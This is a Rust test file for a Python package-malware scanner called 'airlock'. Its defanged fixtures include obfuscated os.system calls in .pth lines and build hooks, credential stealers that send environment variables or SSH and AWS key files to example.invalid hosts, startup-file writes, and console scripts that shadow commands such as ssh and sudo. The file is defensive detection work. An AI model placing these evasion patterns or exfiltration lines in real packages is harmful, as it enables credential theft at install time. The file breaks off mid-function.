//! Placements and spellings that ran code while the scanner graded them low or missed them:
//! computed calls in `.pth` import lines, code that runs at definition time or is called where
//! it is written, whole-environment dumps sent out, network words beyond `requests`, spaced
//! calls in large modules, install hooks on build commands, shell argv lists, and console
//! scripts that shadow a command under another spelling. Fixtures are written here, defanged
//! (commands only `echo`, hosts under `example.invalid`), and scanned; nothing is executed.

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::scan_file;

/// The worst severity of `rule` anywhere in the report of `data` written as `name`.
fn worst(name: &str, data: &[u8], rule: &str) -> Option<Severity> {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join(name);
    if let Some(parent) = p.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(&p, data).expect("write");
    let r = scan_file(&p, BudgetLimits::default());
    r.findings
        .iter()
        .filter(|f| f.rule.id == rule)
        .map(|f| f.severity)
        .max()
}

fn assert_at_least(name: &str, src: &str, rule: &str, min: Severity) {
    let got = worst(name, src.as_bytes(), rule);
    assert!(
        got.is_some_and(|s| s >= min),
        "{name}: {rule} {got:?}, wanted at least {min:?}\n{src}"
    );
}

/// A module over the small-source size, the code at its end.
fn large(code: &str) -> String {
    let mut s = String::from("\"\"\"");
    s.push_str(&"Documentation line for the module.\n".repeat(150));
    s.push_str("\"\"\"\n");
    for i in 0..200 {
        s.push_str(&format!("def helper_{i}(x):\n    return x + {i}\n\n"));
    }
    s.push_str(code);
    s
}

#[test]
fn pth_lines_that_compute_what_they_run_are_high() {
    for line in [
        "import os; getattr(os, ''.join(map(chr,[115,121,115,116,101,109])))('echo airlock-test')",
        "import os; (lambda f: f('echo airlock-test'))(os.system)",
        "import os; exec('os.sys'+'tem(\"echo airlock-test\")')",
        "import os; f = 'sys'; getattr(os, f + 'tem')('echo airlock-test')",
        "import os; __import__(''.join(['o', 's'])).system('echo airlock-test')",
        "import os; vars(os)[chr(115) + 'ystem']('echo airlock-test')",
    ] {
        assert_at_least(
            "hook.pth",
            &format!("{line}\n"),
            "pth-executable-line",
            Severity::High,
        );
    }
}

#[test]
fn a_pth_line_that_execs_a_literal_stays_low() {
    // coverage's and the like: the literal is analysed, and is clean.
    let src = "import os; exec(os.environ.get('COVERAGE_PROCESS_START') and 'import coverage; coverage.process_startup()' or '')\n";
    assert_eq!(
        worst("a1_coverage.pth", src.as_bytes(), "pth-executable-line"),
        Some(Severity::Low)
    );
}

#[test]
fn a_pth_line_sending_a_key_out_is_a_stealer() {
    assert_at_least(
        "hook.pth",
        "import urllib.request as u; u.urlopen('https://example.invalid/x?k='+open('/root/.ssh/id_rsa').read())\n",
        "python-credential-stealer",
        Severity::Critical,
    );
    assert_at_least(
        "hook.pth",
        "import urllib.request as u; u.urlopen('https://example.invalid/ping')\n",
        "python-network-at-load",
        Severity::High,
    );
}

#[test]
fn code_that_runs_at_import_outside_the_top_level_is_not_latent() {
    let c = "'echo airlock-test'";
    for (case, src) in [
        (
            "default-arg",
            format!("import os\ndef f(x=os.system({c})):\n    pass\n"),
        ),
        (
            "lambda-iife",
            format!("import os\n(lambda: os.system({c}))()\n"),
        ),
        (
            "lambda-called",
            format!("import os\nrun = lambda: os.system({c})\nrun()\n"),
        ),
        (
            "if-not-main",
            format!("import os\nif __name__ != '__main__':\n    os.system({c})\n"),
        ),
        (
            "else-of-main",
            format!("import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system({c})\n"),
        ),
    ] {
        assert_at_least(
            &format!("{case}.py"),
            &src,
            "python-shell-command",
            Severity::High,
        );
        assert_at_least(
            &format!("large-{case}.py"),
            &large(&src),
            "python-shell-command",
            Severity::High,
        );
    }
    // The body of a main guard stays latent.
    assert_eq!(
        worst(
            "script.py",
            format!("import os\nif __name__ == '__main__':\n    os.system({c})\n").as_bytes(),
            "python-shell-command"
        ),
        Some(Severity::Low)
    );
}

#[test]
fn a_blank_between_a_callable_and_its_paren_does_not_hide_it_in_a_large_module() {
    for code in [
        "import os\nos.system ('echo airlock-test')\n",
        "import os\nos.system\t('echo airlock-test')\n",
        "import os\nx = (os.system  # run it\n    ('echo airlock-test'))\n",
        "import subprocess\nsubprocess.Popen ('echo airlock-test', shell=True)\n",
    ] {
        assert_at_least(
            "core.py",
            &large(code),
            "python-shell-command",
            Severity::High,
        );
    }
}

#[test]
fn the_environment_sent_out_is_a_stealer() {
    for src in [
        "import os, requests\nrequests.post('https://example.invalid/c', json=dict(os.environ))\n",
        "import os, json, urllib3\nurllib3.PoolManager().request('POST', 'https://example.invalid/c', body=json.dumps(dict(os.environ)))\n",
        "import os, urllib.request\nurllib.request.build_opener().open('https://example.invalid/c', data=str(dict(os.environ)).encode())\n",
        "import os, smtplib\ns = smtplib.SMTP('example.invalid')\ns.sendmail('a@example.invalid', ['b@example.invalid'], str(dict(os.environ)))\n",
    ] {
        assert_at_least("steal.py", src, "python-credential-stealer", Severity::Critical);
    }
    assert_at_least(
        "dns.py",
        "import os, socket\nsocket.gethostbyname(os.environ.get('AWS_SECRET_ACCESS_KEY','x')[:40] + '.example.invalid')\n",
        "python-network-at-load",
        Severity::Medium,
    );
}

#[test]
fn a_shell_argv_list_is_a_shell_command() {
    assert_at_least(
        "sitecustomize.py",
        "import subprocess\nsubprocess.Popen(['sh','-c','echo airlock-test'])\n",
        "python-shell-command",
        Severity::High,
    );
    assert_at_least(
        "hook.pth",
        "import subprocess; subprocess.Popen(['/bin/bash', '-c', 'echo airlock-test'])\n",
        "python-shell-command",
        Severity::High,
    );
}

#[test]
fn build_command_hooks_that_run_commands_are_high() {
    let src = "from setuptools import setup\nfrom setuptools.command.build_py import build_py\nimport os\nclass B(build_py):\n    def run(self):\n        os.system('echo airlock-test')\n        super().run()\nsetup(name='x', version='1.0', cmdclass={'build_py': B})\n";
    assert_at_least("setup.py", src, "setup-install-hook", Severity::High);
    let src = "import setuptools, os\ncmds = {}\ncmds['bdist_wheel'] = type('W', (object,), {'run': lambda self: os.system('echo airlock-test')})\nsetuptools.setup(name='x', version='1.0', cmdclass=cmds)\n";
    assert_at_least("setup.py", src, "setup-install-hook", Severity::High);
}

#[test]
fn probing_the_metadata_address_is_not_sending_a_secret() {
    // awscli's codedeploy helper asks the metadata service whether it runs on EC2; the
    // address is where the request goes, not a credential it carries.
    let src = "from urllib.request import urlopen\n\
               def on_ec2():\n    try:\n        urlopen('http://169.254.169.254/latest/meta-data/', timeout=1)\n        return True\n    except Exception:\n        return False\n";
    let got = worst("utils.py", src.as_bytes(), "python-credential-stealer");
    assert_eq!(got, None, "{src}");
    // The same call carrying a key file's path still is one.
    let steal = "import urllib.request\n\
                 urllib.request.urlopen('https://collector.example.invalid/', data=open('/root/.aws/credentials','rb').read())\n";
    assert_at_least(
        "steal.py",
        steal,
        "python-credential-stealer",
        Severity::Critical,
    );
}

#[test]
fn a_secret_kept_in_a_variable_and_sent_out_is_a_stealer() {
    for src in [
        "import os, requests\ndata = dict(os.environ)\nrequests.post('https://collector.example.invalid/', json=data)\n",
        "import os, json, urllib.request\nenv = {**os.environ}\nbody = json.dumps(env).encode()\nurllib.request.urlopen('https://collector.example.invalid/', data=body)\n",
        "import os, requests\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://collector.example.invalid/', data={'k': key})\n",
    ] {
        assert_at_least("steal.py", src, "python-credential-stealer", Severity::Critical);
    }
    // Reading one variable and calling an API with it is ordinary.
    let benign = "import os, requests\ntoken = os.environ.get('API_TOKEN')\ndef fetch():\n    return requests.get('https://api.example.invalid/', headers={'Authorization': token})\n";
    assert_eq!(
        worst("client.py", benign.as_bytes(), "python-credential-stealer"),
        None
    );
}

/// A `.tar.gz` sdist of `files` under `demo-1.0/`.
fn sdist(files: &[(&str, &str)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, text) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(text.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, format!("demo-1.0/{name}"), text.as_bytes())
            .expect("append");
    }
    let tar = b.into_inner().expect("tar");
    let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, &tar).expect("gzip");
    z.finish().expect("gzip")
}

#[test]
fn an_in_tree_build_backend_runs_at_install() {
    let pyproject =
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";
    let hook = "import os\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    os.system('echo airlock-test')\n    return 'demo-1.0-py3-none-any.whl'\n";
    let pkg_info = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n";
    let data = sdist(&[
        ("PKG-INFO", pkg_info),
        ("pyproject.toml", pyproject),
        ("backend.py", hook),
    ]);
    assert_eq!(
        worst("demo-1.0.tar.gz", &data, "python-shell-command"),
        Some(Severity::High)
    );
    // In a sub-folder, as a package.
    let nested = pyproject
        .replace("\"backend\"", "\"_build.hooks:backend\"")
        .replace("[\".\"]", "[\"tools\"]");
    let data = sdist(&[
        ("PKG-INFO", pkg_info),
        ("pyproject.toml", &nested),
        ("tools/_build/hooks/__init__.py", hook),
    ]);
    assert_eq!(
        worst("demo-1.0.tar.gz", &data, "python-shell-command"),
        Some(Severity::High)
    );
    // The same module without backend-path is an ordinary module of the package.
    let data = sdist(&[
        ("PKG-INFO", pkg_info),
        ("pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"),
        ("backend.py", hook),
    ]);
    assert_eq!(
        worst("demo-1.0.tar.gz", &data, "python-shell-command"),
        Some(Severity::Low)
    );
}

#[test]
fn deep_indentation_is_bounded_not_an_abort() {
    // tree-sitter-python's scanner aborted the process past about 550 levels; CPython refuses
    // more than 100.
    let mut src = String::from("import os\n");
    for i in 0..600 {
        src.push_str(&" ".repeat(i));
        src.push_str("if 1:\n");
    }
    src.push_str(&" ".repeat(600));
    src.push_str("pass\nos.system('echo airlock-test')\n");
    assert_at_least("deep.py", &src, "resource-limit", Severity::High);
}

#[test]
fn a_call_chain_past_the_caller_bound_is_not_hidden() {
    // The placement pass records a few callers per name; a payload function called from
    // thousands of padding functions before the one the module calls must still count.
    let mut src = String::from("import os\n");
    for i in 0..200 {
        src.push_str(&format!("def f{i}():\n    x()\n"));
    }
    src.push_str("def g():\n    x()\ndef x():\n    os.system('echo airlock-test')\ng()\n");
    assert_at_least("padded.py", &src, "python-shell-command", Severity::High);
}

#[test]
fn the_environment_in_an_fstring_or_a_dns_name_is_a_stealer() {
    for src in [
        "import os, requests\nrequests.get(f'https://collector.example.invalid/?k={os.environ}')\n",
        "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.collector.example.invalid')\n",
    ] {
        assert_at_least("steal.py", src, "python-credential-stealer", Severity::Critical);
    }
    for benign in [
        "import os, socket\nHOST = socket.gethostbyname(os.environ.get('DB_HOST', 'localhost'))\n",
        "import os, requests\ndef ping():\n    return requests.get(f\"{os.environ['API_URL']}/health\")\n",
    ] {
        assert_eq!(
            worst("client.py", benign.as_bytes(), "python-credential-stealer"),
            None,
            "{benign}"
        );
    }
}

#[test]
fn an_aliased_shell_call_in_a_large_module_is_placed() {
    assert_at_least(
        "core.py",
        &large("import subprocess as sp\nsp.call('echo airlock-test', shell=True)\n"),
        "python-shell-command",
        Severity::High,
    );
}

/// The findings of `rule` in the report of `src` written as `name`: (severity, evidence).
fn found(name: &str, src: &str, rule: &str) -> Vec<(Severity, String)> {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join(name);
    if let Some(parent) = p.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(&p, src).expect("write");
    scan_file(&p, BudgetLimits::default())
        .findings
        .iter()
        .filter(|f| f.rule.id == rule)
        .map(|f| (f.severity, f.evidence.clone()))
        .collect()
}

/// Tester round 9 §3: setuptools' PEP 517 backend and pip's legacy shim run `setup.py` as
/// `__main__`, and `python -m pkg` runs `pkg/__main__.py` so: the guarded body is what runs. In
/// an ordinary module it runs only when the module is run as a script, and stays latent.
#[test]
fn the_main_guard_runs_in_files_run_as_main() {
    use Severity::*;
    let guarded = "import os\nif __name__ == '__main__':\n    os.system('echo airlock-test')\n";
    let via_main = "import os\ndef main():\n    os.system('echo airlock-test')\nif '__main__' == __name__:\n    main()\n";
    let cases = [
        ("setup.py", guarded, High),
        ("setup.py", via_main, High),
        ("demo/__main__.py", guarded, High),
        ("demo/cli.py", guarded, Low),
        ("demo/cli.py", via_main, Low),
    ];
    for (name, src, want) in cases {
        assert_eq!(
            found(name, src, "python-shell-command"),
            vec![(want, "os.system('echo airlock-test')".to_string())],
            "{name}\n{src}"
        );
    }
    // A top-level argument parser marks a command-line script, whose top level is latent; in a
    // package's `__init__.py` or `__main__.py` it proves nothing (tester t9).
    let parser =
        "import argparse, os\np = argparse.ArgumentParser()\nos.system('echo airlock-test')\n";
    let cases = [
        ("demo/__init__.py", parser, High),
        ("demo/__main__.py", parser, High),
        ("demo/tool.py", parser, Low),
    ];
    for (name, src, want) in cases {
        assert_eq!(
            found(name, src, "python-shell-command"),
            vec![(want, "os.system('echo airlock-test')".to_string())],
            "{name}\n{src}"
        );
    }
}

/// Tester round 9 §6a: a callable named by a string (`pkgutil.resolve_name`, `pydoc.locate`,
/// an entry point's `value`, logging's `'()'`, `PYTHONBREAKPOINT`) is judged as the callable
/// it names; a computed name at install time is medium.
#[test]
fn callables_named_by_strings_are_judged_as_the_callable() {
    use Severity::*;
    let shell = [
        (
            "import pkgutil\npkgutil.resolve_name('os:system')('echo airlock-test')\n",
            "pkgutil.resolve_name('os:system')('echo airlock-test') (resolves to os.system)",
        ),
        (
            "from pydoc import locate\nf = locate('os.system')\nf('echo airlock-test')\n",
            "f('echo airlock-test') (resolves to os.system)",
        ),
        (
            "from importlib.metadata import EntryPoint\nEntryPoint(name='x', value='os:system', group='g').load()('echo airlock-test')\n",
            "EntryPoint(name='x', value='os:system', group='g').load()('echo airlock-test') (resolves to os.system)",
        ),
        (
            "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'subprocess.getoutput', 'cmd': 'echo airlock-test'}}})\n",
            "'()': 'subprocess.getoutput' (calls subprocess.getoutput)",
        ),
        (
            "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('echo airlock-test')\n",
            "breakpoint('echo airlock-test') (resolves to os.system)",
        ),
        (
            "import os\nos.environ.setdefault('PYTHONBREAKPOINT', 'subprocess:getoutput')\nbreakpoint('echo airlock-test')\n",
            "breakpoint('echo airlock-test') (resolves to subprocess.getoutput)",
        ),
    ];
    for (src, ev) in shell {
        assert_eq!(
            found("setup.py", src, "python-shell-command"),
            vec![(High, ev.to_string())],
            "{src}"
        );
    }
    // An argv list without a shell is no shell command, however the callable is named.
    assert_eq!(
        found(
            "setup.py",
            "import pkgutil\npkgutil.resolve_name('subprocess:run')(['echo', 'airlock-test'])\n",
            "python-shell-command"
        ),
        vec![]
    );
    let computed = "import os, pkgutil\nname = os.environ.get('X', 'a:b')\npkgutil.resolve_name(name)('echo airlock-test')\n";
    assert_eq!(
        found("setup.py", computed, "python-exec-computed"),
        vec![(
            Medium,
            "pkgutil.resolve_name(name) (name is computed)".to_string()
        )]
    );
    // A plugin loader resolving configured names at import is ordinary.
    assert_eq!(
        found("demo/plugins.py", computed, "python-exec-computed"),
        vec![(
            Low,
            "pkgutil.resolve_name(name) (name is computed)".to_string()
        )]
    );
}

/// Tester round 9 §6b: code run from a file that is not a `.py` module. The rule sees only
/// the call, not the named file: a constant path that is not a `.py` file is high at install
/// or import, a path computed at run time medium, a `.py` file of the package nothing.
#[test]
fn code_run_from_a_file_that_is_not_a_module_is_reported() {
    use Severity::*;
    let cases = [
        ("exec(open('build_helpers.dat').read())\n", Some(High)),
        (
            "exec(compile(open('helpers.txt').read(), 'helpers', 'exec'))\n",
            Some(High),
        ),
        ("import runpy\nrunpy.run_path('build_helpers.dat')\n", Some(High)),
        (
            "import importlib.machinery\nimportlib.machinery.SourceFileLoader('h', 'build_helpers.dat').load_module()\n",
            Some(High),
        ),
        (
            "import importlib.machinery\nl = importlib.machinery.SourceFileLoader('h', 'data/h.bin')\nl.load_module()\n",
            Some(High),
        ),
        (
            "import zipimport\nzipimport.zipimporter('helpers.zip').load_module('helpers')\n",
            Some(High),
        ),
        (
            "import os, sys\nexec(open(os.path.join(os.path.dirname(__file__), sys.argv[1])).read())\n",
            Some(Medium),
        ),
        // A setup.py reading its version from the package's own module.
        ("exec(open('demo/_version.py').read())\n", None),
        (
            "import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'demo', '__about__.py')).read())\n",
            None,
        ),
        (
            "import runpy\nv = runpy.run_path('demo/version.py')['__version__']\n",
            None,
        ),
    ];
    for (src, want) in cases {
        let got = found("setup.py", src, "python-exec-computed")
            .into_iter()
            .map(|f| f.0)
            .max();
        assert_eq!(got, want, "{src}");
    }
    // Inside a function nothing runs it at install or import.
    assert_eq!(
        worst(
            "demo/tools.py",
            b"def load(p):\n    exec(open(p + '.dat').read())\n",
            "python-exec-computed"
        ),
        Some(Low)
    );
}

/// Tester round 9 §6c: a `.pth`, `sitecustomize.py` or `usercustomize.py` written by install
/// code runs at every interpreter start from then on, outside what pip records.
#[test]
fn writing_a_startup_file_at_install_is_high() {
    use Severity::*;
    let cases = [
        (
            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import os\\n')\n",
            Some(High),
        ),
        (
            "import site, os\np = os.path.join(site.getsitepackages()[0], 'zz.pth')\nwith open(p, 'w') as f:\n    f.write('import os\\n')\n",
            Some(High),
        ),
        (
            "import pathlib, site\npathlib.Path(site.getusersitepackages(), 'usercustomize.py').write_text('import os\\n')\n",
            Some(High),
        ),
        (
            "import shutil, sysconfig\nshutil.copy('boot.pth', sysconfig.get_paths()['purelib'] + '/boot.pth')\n",
            Some(High),
        ),
        (
            "import site, shutil\nshutil.copy('x.py', site.getsitepackages()[0])\n",
            Some(Medium),
        ),
        // Reading one is not writing it.
        (
            "import site, os\nprint(open(os.path.join(site.getsitepackages()[0], 'zz.pth')).read())\n",
            None,
        ),
        (
            "open('demo/_build_info.txt', 'w').write('built')\n",
            None,
        ),
    ];
    for (src, want) in cases {
        let got = found("setup.py", src, "python-startup-write")
            .into_iter()
            .map(|f| f.0)
            .max();
        assert_eq!(got, want, "{src}");
    }
    // A command class that copies a `.pth` into the build (pytest-cov's shape) runs at install
    // when pip builds: medium; a tool that writes one in a function (`pip install -e`,
    // virtualenv) low.
    let in_fn = "import shutil, os\ndef run(self):\n    shutil.copy('src/x.pth', os.path.join(self.build_lib, 'x.pth'))\n";
    assert_eq!(
        worst("setup.py", in_fn.as_bytes(), "python-startup-write"),
        Some(Medium)
    );
    assert_eq!(
        worst("demo/venv.py", in_fn.as_bytes(), "python-startup-write"),
        Some(Low)
    );
}

#[path = "support/zip.rs"]
mod zip_support;

/// Tester round 10, C3: Python imports only a top-level `sitecustomize` / `usercustomize`
/// module, one directly in a `sys.path` folder. One inside a package folder
/// (`site-packages/ddtrace/bootstrap/sitecustomize.py`, which `ddtrace-run` puts on
/// `PYTHONPATH` on purpose) is low and analysed as an ordinary module; a top-level one stays
/// medium and is analysed as startup code.
#[test]
fn a_startup_hook_inside_a_package_is_low() {
    let hook = "import os\nos.environ.setdefault('DD_TRACE', '1')\n";
    for name in [
        "env/lib/python3.11/site-packages/ddtrace/bootstrap/sitecustomize.py",
        "env/lib/python3/dist-packages/pkg/usercustomize.py",
    ] {
        assert_eq!(
            worst(name, hook.as_bytes(), "startup-hook-file"),
            Some(Severity::Low),
            "{name}"
        );
    }
    assert_eq!(
        worst(
            "env/lib/python3.11/site-packages/sitecustomize.py",
            hook.as_bytes(),
            "startup-hook-file"
        ),
        Some(Severity::Medium)
    );
    // A loose file (no site folder, no archive) runs only once someone puts its folder on
    // `sys.path`: inventory, low; its code is still startup code, so a command in it is high.
    for name in ["usercustomize.py", "project/sitecustomize.py"] {
        assert_eq!(
            worst(name, hook.as_bytes(), "startup-hook-file"),
            Some(Severity::Low),
            "{name}"
        );
        let cmd = "import os\nos.system('echo airlock-test | sh')\n";
        assert_at_least(name, cmd, "python-shell-command", Severity::High);
    }
    // In a wheel: the root and `*.data/purelib|platlib/` are installed into site-packages.
    for (member, want) in [
        ("ddtrace/bootstrap/sitecustomize.py", Severity::Low),
        ("x-1.0.data/scripts/sitecustomize.py", Severity::Low),
        ("sitecustomize.py", Severity::Medium),
        ("x-1.0.data/purelib/sitecustomize.py", Severity::Medium),
        ("x-1.0.data/platlib/usercustomize.py", Severity::Medium),
    ] {
        let whl = zip_support::zip_with(member, hook.as_bytes());
        assert_eq!(
            worst("x-1.0-py3-none-any.whl", &whl, "startup-hook-file"),
            Some(want),
            "{member}"
        );
    }
    // The code of a nested hook is not startup code: a shell command in one of its functions
    // stays low, as in any module, while in a top-level hook it is medium.
    let in_fn = "import os\ndef run():\n    os.system('echo airlock-test')\n";
    assert_eq!(
        worst(
            "env/lib/python3.11/site-packages/ddtrace/bootstrap/sitecustomize.py",
            in_fn.as_bytes(),
            "python-shell-command"
        ),
        Some(Severity::Low)
    );
    assert_eq!(
        worst(
            "env/lib/python3.11/site-packages/sitecustomize.py",
            in_fn.as_bytes(),
            "python-shell-command"
        ),
        Some(Severity::Medium)
    );
}

/// A build command that only fetches a header tarball and extracts it, as native packages do,
/// stays low; the same hook running what it fetched, or an install command that downloads, is
/// high.
#[test]
fn a_build_step_that_only_downloads_is_low() {
    let fetch = "import os, tarfile, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n\
                 class Fetch(build_ext):\n    def run(self):\n        dst = 'third_party/eigen.tar.gz'\n        if not os.path.exists(dst):\n            urllib.request.urlretrieve('https://eigen.example.invalid/eigen.tar.gz', dst)\n            tarfile.open(dst).extractall('third_party')\n        super().run()\n\
                 setup(name='x', version='1.0', cmdclass={'build_ext': Fetch})\n";
    assert_eq!(
        worst("setup.py", fetch.as_bytes(), "setup-install-hook"),
        Some(Severity::Low),
        "{fetch}"
    );
    let runs = fetch.replace(
        "super().run()",
        "os.system('sh third_party/eigen/install.sh')\n        super().run()",
    );
    assert_at_least("setup.py", &runs, "setup-install-hook", Severity::High);
    let install = fetch.replace("build_ext", "install");
    assert_at_least("setup.py", &install, "setup-install-hook", Severity::High);
}

/// Python that runs with no `.py` name (tester t14): a script whose shebang runs Python (a
/// wheel's `.data/scripts/` file, which installers give a `#!python` line, or a venv's
/// `bin/pip`), and a `.pyw` module, which the import system loads on Windows. A shell script
/// stays a shell script.
#[test]
fn python_without_a_py_name_is_read_as_python() {
    let steal = "#!python\nimport os, urllib.request\nurllib.request.urlopen('https://c.example.invalid/u', data=repr(dict(os.environ)).encode())\n";
    let whl = zip_support::zip_with("x-1.0.data/scripts/x-tool", steal.as_bytes());
    assert_eq!(
        worst("x-1.0-py3-none-any.whl", &whl, "python-credential-stealer"),
        Some(Severity::Critical)
    );
    let pip = "#!/opt/venv/bin/python3.12\nimport os\nos.system('echo airlock-test')\nfrom pip._internal.cli.main import main\n";
    assert_at_least("venv/bin/pip", pip, "python-shell-command", Severity::High);
    assert_at_least(
        "pkg/core.pyw",
        "import os\nos.system('echo airlock-test')\n",
        "python-shell-command",
        Severity::High,
    );
    let sh = "#!/bin/sh\nexec python3 -m pkg \"$@\"\n";
    assert_eq!(
        worst("venv/bin/tool", sh.as_bytes(), "python-shell-command"),
        None
    );
}

/// A wheel installs `.data/scripts/*` and `.data/data/bin/*` into `bin` as they are: a script
/// named like a common command shadows it as a console script would (tester t14), and so do
/// the free-threaded, windowed and launcher names of Python. A script of the package's own
/// name does not.
#[test]
fn installed_scripts_that_shadow_commands_are_reported() {
    let rule = "entry-point-shadows-command";
    for member in [
        "x-1.0.data/scripts/ssh",
        "x-1.0.data/data/bin/sudo",
        "x-1.0.data/scripts/python3.12",
    ] {
        let whl = two_member_wheel(member, b"#!/bin/sh\necho airlock-test\n");
        assert!(
            worst("x-1.0-py3-none-any.whl", &whl, rule).is_some(),
            "{member}"
        );
    }
    for cmd in ["python3.13t", "pythonw", "py"] {
        let ep = format!("[console_scripts]\n{cmd} = x.cli:main\n");
        let whl = two_member_wheel("x-1.0.dist-info/entry_points.txt", ep.as_bytes());
        assert!(
            worst("x-1.0-py3-none-any.whl", &whl, rule).is_some(),
            "{cmd}"
        );
    }
    let whl = two_member_wheel("x-1.0.data/scripts/x-tool", b"#!/bin/sh\necho ok\n");
    assert_eq!(worst("x-1.0-py3-none-any.whl", &whl, rule), None);
}

/// A wheel of its `WHEEL` file and one more member.
fn two_member_wheel(member: &str, data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, bytes) in [
        (
            "x-1.0.dist-info/WHEEL",
            &b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"[..],
        ),
        (member, data),
    ] {
        z.start_file(name, opts).expect("start");
        z.write_all(bytes).expect("write");
    }
    z.finish().expect("finish").into_inner()
}

/// A source tree's `pyproject.toml` that declares a console script named like a common command
/// shadows it once installed (tester t14 ep09); a project's own command does not.
#[test]
fn pyproject_scripts_that_shadow_commands_are_reported() {
    let rule = "entry-point-shadows-command";
    for text in [
        "[project]\nname = \"x\"\nversion = \"1.0\"\n[project.scripts]\nssh = \"x.cli:main\"\n",
        "[project]\nname = \"x\"\n[project.gui-scripts]\nGit = \"x.gui:main\"\n",
        "[tool.poetry]\nname = \"x\"\n[tool.poetry.scripts]\nsudo = \"x.cli:main\"\n",
        // Tools handed credentials (tester t14 ep05-ep07).
        "[project]\nname = \"x\"\n[project.scripts]\ntwine = \"x.cli:main\"\n",
        "[project]\nname = \"x\"\n[project.scripts]\ngh = \"x.cli:main\"\n",
        "[project]\nname = \"x\"\n[project.scripts]\nssh-add = \"x.cli:main\"\n",
    ] {
        assert!(
            worst("x-1.0/pyproject.toml", text.as_bytes(), rule).is_some(),
            "{text}"
        );
    }
    let twine = "[project]\nname = \"twine\"\n[project.scripts]\ntwine = \"twine.__main__:main\"\n";
    assert_eq!(worst("x-1.0/pyproject.toml", twine.as_bytes(), rule), None);
    let own = "[project]\nname = \"huggingface_hub\"\n[project.scripts]\nhf = \"huggingface_hub.cli:main\"\nx-tool = \"x:main\"\n";
    assert_eq!(worst("x-1.0/pyproject.toml", own.as_bytes(), rule), None);
}

/// An sdist whose `pyproject.toml` names a command class of its own
/// (`[tool.setuptools.cmdclass] build_py = "_custom.BuildPy"`): setuptools imports `_custom`
/// and runs `BuildPy.run` while it builds, so both its module level and the command's methods
/// run at install (tester t14 bd05). A module no cmdclass names stays an ordinary module.
#[test]
fn a_cmdclass_module_named_in_pyproject_runs_at_install() {
    let pyproject = "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n[project]\nname = \"x\"\nversion = \"1.0\"\n[tool.setuptools.cmdclass]\nbuild_py = \"_custom.BuildPy\"\n";
    let custom = "import subprocess\nfrom setuptools.command.build_py import build_py\nclass BuildPy(build_py):\n    def run(self):\n        subprocess.run('echo airlock-test', shell=True)\n        super().run()\n";
    let sdist = |files: &[(&str, &str)]| {
        let mut t = tar::Builder::new(flate2::write::GzEncoder::new(
            Vec::new(),
            flate2::Compression::fast(),
        ));
        for (name, text) in files {
            let mut h = tar::Header::new_gnu();
            h.set_size(text.len() as u64);
            h.set_mode(0o644);
            h.set_cksum();
            t.append_data(&mut h, name, text.as_bytes())
                .expect("append");
        }
        t.into_inner().expect("tar").finish().expect("gzip")
    };
    let with = sdist(&[
        (
            "x-1.0/PKG-INFO",
            "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n",
        ),
        ("x-1.0/pyproject.toml", pyproject),
        ("x-1.0/_custom.py", custom),
    ]);
    assert_eq!(
        worst("x-1.0.tar.gz", &with, "python-shell-command"),
        Some(Severity::High)
    );
    let without = sdist(&[
        (
            "x-1.0/PKG-INFO",
            "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n",
        ),
        (
            "x-1.0/pyproject.toml",
            &pyproject.replace(
                "[tool.setuptools.cmdclass]\nbuild_py = \"_custom.BuildPy\"\n",
                "",
            ),
        ),
        ("x-1.0/_custom.py", custom),
    ]);
    assert_eq!(
        worst("x-1.0.tar.gz", &without, "python-shell-command"),
        Some(Severity::Low)
    );
}

/// PEP 427: every file of a wheel but RECORD has a sha256 (or stronger) hash in RECORD. A
/// module listed with no hash, or hashed with sha1, is unverified (tester t14 rc01, rc02):
/// wheel-record-mismatch.
#[test]
fn record_rows_without_a_strong_hash_are_mismatches() {
    use std::io::Write;
    let whl = |row: &str| {
        let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        let wheel = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
        let digest = {
            use base64::Engine;
            use sha2::Digest;
            base64::engine::general_purpose::URL_SAFE_NO_PAD
                .encode(sha2::Sha256::digest(wheel.as_bytes()))
        };
        let record = format!(
            "{row}\nx-1.0.dist-info/WHEEL,sha256={digest},{}\nx-1.0.dist-info/RECORD,,\n",
            wheel.len()
        );
        for (name, text) in [
            ("x/core.py", "VALUE = 1\n"),
            ("x-1.0.dist-info/WHEEL", wheel),
            ("x-1.0.dist-info/RECORD", record.as_str()),
        ] {
            z.start_file(name, opts).expect("start");
